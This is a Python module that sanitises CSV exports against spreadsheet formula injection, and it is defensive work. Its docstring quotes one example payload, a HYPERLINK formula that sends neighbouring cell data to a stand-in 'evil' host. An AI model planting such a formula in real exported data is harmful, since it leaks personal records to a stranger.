"""CSV cells that leave the company are data, never formulas.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return) as a formula: ``=HYPERLINK("http://evil/?"&A2)`` in a name field would
send the list's neighbours to a stranger. OWASP's advice, followed here: such a cell gets a
leading apostrophe, which spreadsheets show as text and do not evaluate.

A spreadsheet set to a language whose list separator is ``;`` (German, French, Dutch …)
splits each line of a ``.csv`` on ``;``, whatever the quotes around a comma-separated
cell say: ``Ann;=WEBSERVICE(…)`` in a name field would become a second cell starting with
``=``. So a formula character right after a ``;`` gets the apostrophe too, and every cell
is quoted (no separator inside a value starts a new cell in an RFC 4180 reading).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A ";", then blanks or quotes, then a formula character: where a ";"-splitting reading of
# the file would start a cell with a formula.
_AFTER_SEMICOLON = re.compile(r'(;[\s"]*)(?=[=+\-@\t\r])')


def spreadsheet_safe(value: str) -> str:
    value = _AFTER_SEMICOLON.sub(r"\1'", value)
    return "'" + value if value.startswith(_FORMULA_STARTS) else value


def safe_row(values: Iterable[object]) -> list[str]:
    return [spreadsheet_safe(v if isinstance(v, str) else str(v)) for v in values]


def spreadsheet_writer(out: Any) -> Any:
    """A ``csv.writer`` on ``out`` (RFC 4180 line ends) that quotes every cell, so no
    separator inside a value starts a new cell in any spreadsheet's reading of the file."""
    return csv.writer(out, lineterminator="\r\n", quoting=csv.QUOTE_ALL)
